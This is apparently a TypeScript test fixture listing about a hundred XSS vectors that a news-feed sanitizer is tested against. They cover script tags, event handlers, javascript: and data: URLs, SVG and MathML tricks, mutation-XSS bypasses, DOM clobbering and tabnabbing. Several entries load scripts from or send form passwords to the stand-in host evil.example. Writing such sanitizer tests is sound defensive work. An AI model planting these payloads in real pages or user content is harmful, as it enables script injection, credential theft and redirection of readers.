/** One hostile fragment a feed could carry in an article body. */
export interface XssVector {
  group: string;
  name: string;
  html: string;
}

const v = (group: string, name: string, html: string): XssVector => ({ group, name, html });

/**
 * Article bodies that try to run script, leak data, hijack the page or its links. Collected from
 * the OWASP XSS filter evasion cheat sheet, the DOMPurify and html5sec.org test suites and the
 * published mutation-XSS bypasses, reduced to what a feed body can carry.
 */
export const XSS_VECTORS: XssVector[] = [
  v('script', 'a script element', '<p>Сесія</p><script>alert(1)</script>'),
  v('script', 'an external script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'),
  v('script', 'a script split around another', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  v(
    'script',
    'a script with a slash attribute',
    '<script/xss src="https://evil.example/x.js"></script>',
  ),
  v('script', 'an unclosed double-bracket script', '<<script>alert(1);//<</script>'),
  v('script', 'a script in a table', '<table><tr><td><script>alert(1)</script></td></tr></table>'),

  v('handler', 'img onerror', '<img src=x onerror=alert(1)>'),
  v('handler', 'img onerror in capitals', '<IMG SRC="x" ONERROR="alert(1)">'),
  v('handler', 'body onload', '<body onload=alert(1)><p>x</p></body>'),
  v('handler', 'p onclick', '<p onclick="alert(1)">Натисніть</p>'),
  v('handler', 'a onmouseover', '<a href="https://rada.example/" onmouseover=alert(1)>x</a>'),
  v('handler', 'div onpointerenter', '<div onpointerenter=alert(1)>x</div>'),
  v(
    'handler',
    'details ontoggle',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
  ),
  v('handler', 'video source onerror', '<video><source onerror=alert(1)></video>'),
  v('handler', 'input autofocus onfocus', '<input autofocus onfocus=alert(1)>'),
  v('handler', 'marquee onstart', '<marquee onstart=alert(1)>x</marquee>'),
  v('handler', 'a custom element onclick', '<vistky-card onclick=alert(1)>x</vistky-card>'),
  v(
    'handler',
    'onerror that evaluates its own src',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  ),
  v('handler', 'a handler after a slash', '<img/src=x/onerror=alert(1)>'),

  v('url', 'a javascript: link', '<a href="javascript:alert(1)">Рішення</a>'),
  v('url', 'a javascript: link in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'),
  v('url', 'a javascript: link with an entity', '<a href="&#106;avascript:alert(1)">x</a>'),
  v('url', 'a javascript: link hidden by a tab', '<a href="java&#x09;script:alert(1)">x</a>'),
  v('url', 'a javascript: link hidden by a newline', '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
  v('url', 'a javascript: link after spaces', '<a href="   javascript:alert(1)">x</a>'),
  v(
    'url',
    'a javascript: link after a control character',
    '<a href="\u0001javascript:alert(1)">x</a>',
  ),
  v('url', 'a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'),
  v(
    'url',
    'a data: HTML link',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  ),
  v('url', 'a javascript: image', '<img src="javascript:alert(1)">'),
  v('url', 'a data: SVG image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
  v(
    'url',
    'a javascript: srcset',
    '<img src="https://rada.example/a.jpg" srcset="javascript:alert(1) 1x">',
  ),
  v(
    'url',
    'a data: srcset',
    '<img src="https://rada.example/a.jpg" srcset="data:image/png;base64,AAAA 2x">',
  ),
  v('url', 'a javascript: formaction', '<button formaction="javascript:alert(1)">x</button>'),
  v(
    'url',
    'an svg xlink:href',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ),
  v('url', 'a javascript: area in a map', '<map name="m"><area href="javascript:alert(1)"></map>'),
  v('url', 'a javascript: cite', '<blockquote cite="javascript:alert(1)">x</blockquote>'),
  v('url', 'a javascript: poster', '<video poster="javascript:alert(1)"></video>'),
  v(
    'url',
    'a javascript: table background',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  ),
  v(
    'url',
    'a javascript: lowsrc',
    '<img src="https://rada.example/a.jpg" lowsrc="javascript:alert(1)">',
  ),

  v('svg', 'svg onload', '<svg onload=alert(1)>'),
  v('svg', 'a script inside svg', '<svg><script>alert(1)</script></svg>'),
  v('svg', 'svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'),
  v(
    'svg',
    'svg set of a javascript: href',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
  ),
  v(
    'svg',
    'an img in svg foreignObject',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  ),
  v('svg', 'svg style holding markup', '<svg><style><img src=x onerror=alert(1)></style></svg>'),
  v('math', 'a MathML href', '<math href="javascript:alert(1)">x</math>'),
  v(
    'math',
    'a MathML maction xlink:href',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ),
  v(
    'math',
    'mglyph style confusion',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ),

  v('frame', 'iframe srcdoc with a script', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  v(
    'frame',
    'iframe srcdoc with escaped markup',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  ),
  v('frame', 'a javascript: iframe', '<iframe src="javascript:alert(1)"></iframe>'),
  v('frame', 'an external iframe', '<iframe src="https://evil.example/"></iframe>'),
  v('frame', 'a frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'),
  v('frame', 'a portal', '<portal src="https://evil.example/"></portal>'),

  v('plugin', 'a javascript: object', '<object data="javascript:alert(1)"></object>'),
  v(
    'plugin',
    'a Flash object',
    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
  ),
  v('plugin', 'an embed', '<embed src="https://evil.example/x.swf">'),
  v('plugin', 'a javascript: embed', '<embed src="javascript:alert(1)">'),
  v('plugin', 'an applet', '<applet code="x.class">x</applet>'),

  v(
    'document',
    'a base that redirects every relative URL',
    '<base href="https://evil.example/"><a href="/news">x</a>',
  ),
  v(
    'document',
    'a meta refresh to javascript:',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  ),
  v(
    'document',
    'a meta refresh to another site',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  ),
  v(
    'document',
    'a meta CSP override',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  ),
  v(
    'document',
    'an external stylesheet',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
  ),

  v(
    'form',
    'a phishing form',
    '<form action="https://evil.example/phish"><input name="password" type="password"><button>Увійти</button></form>',
  ),
  v(
    'form',
    'a button submitting elsewhere',
    '<button form="x" formaction="https://evil.example/">x</button>',
  ),
  v('form', 'a textarea autofocus', '<textarea autofocus onfocus=alert(1)>x</textarea>'),
  v('form', 'an isindex', '<isindex action="javascript:alert(1)" type="submit">'),
  v('form', 'a select', '<select onchange=alert(1)><option>x</option></select>'),

  v(
    'css',
    'a javascript: url() in a style attribute',
    '<p style="background:url(javascript:alert(1))">x</p>',
  ),
  v(
    'css',
    'a tracking url() in a style attribute',
    '<div style="background-image:url(https://evil.example/track.gif)">x</div>',
  ),
  v(
    'css',
    'an @import in a style element',
    "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
  ),
  v(
    'css',
    'a javascript: url() in a style element',
    '<style>body{background:url("javascript:alert(1)")}</style>',
  ),
  v('css', 'an IE behavior', '<p style="behavior:url(x.htc)">x</p>'),
  v(
    'css',
    'a style that covers the page',
    '<div style="position:fixed;inset:0;z-index:9999">Оновіть пароль</div>',
  ),

  v(
    'mxss',
    'noscript closing inside an attribute',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ),
  v('mxss', 'a template holding a handler', '<template><img src=x onerror=alert(1)></template>'),
  v(
    'mxss',
    'svg p style namespace confusion',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ),
  v(
    'mxss',
    'math mglyph svg textarea confusion',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  ),
  v(
    'mxss',
    'nested forms across math',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ),
  v(
    'mxss',
    'noembed closing inside an attribute',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  ),
  v(
    'mxss',
    'xmp closing inside an attribute',
    '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
  ),
  v(
    'mxss',
    'title closing inside an attribute',
    '<title><img title="</title><img src onerror=alert(1)>"></title>',
  ),
  v(
    'mxss',
    'a comment closing inside an attribute',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
  ),
  v('mxss', 'a CDATA section in HTML', '<![CDATA[><img src=x onerror=alert(1)>]]>'),
  v(
    'mxss',
    'a bogus comment end',
    '<a href="https://rada.example/">x</a><!-- --!><img src=x onerror=alert(1)> -->',
  ),
  v('mxss', 'a backtick attribute', '<img src=`x` onerror=`alert(1)`>'),

  v('clobber', 'an image named cookie', '<img name="cookie" src="https://rada.example/a.jpg">'),
  v(
    'clobber',
    'a link with id defaultView',
    '<a id="defaultView" href="https://rada.example/">x</a>',
  ),
  v(
    'clobber',
    'an image with id __proto__',
    '<img id="__proto__" src="https://rada.example/a.jpg">',
  ),
  v('clobber', 'an anchor named attributes', '<a name="attributes">x</a>'),
  v('clobber', 'a div with the app root id', '<div id="app">x</div><div id="main">y</div>'),
  v(
    'clobber',
    'a form named getElementById',
    '<form name="getElementById"></form><img name="getElementById" src="https://rada.example/a.jpg">',
  ),

  v(
    'tabnabbing',
    'a blank target without rel',
    '<a href="https://evil.example/" target="_blank">x</a>',
  ),
  v(
    'tabnabbing',
    'a blank target asking for the opener',
    '<a href="https://evil.example/" target="_blank" rel="opener">x</a>',
  ),
  v('tabnabbing', 'a top target', '<a href="https://evil.example/" target="_top">x</a>'),
  v(
    'tabnabbing',
    'an area with a blank target',
    '<map name="m"><area href="https://evil.example/" target="_blank"></map>',
  ),
];
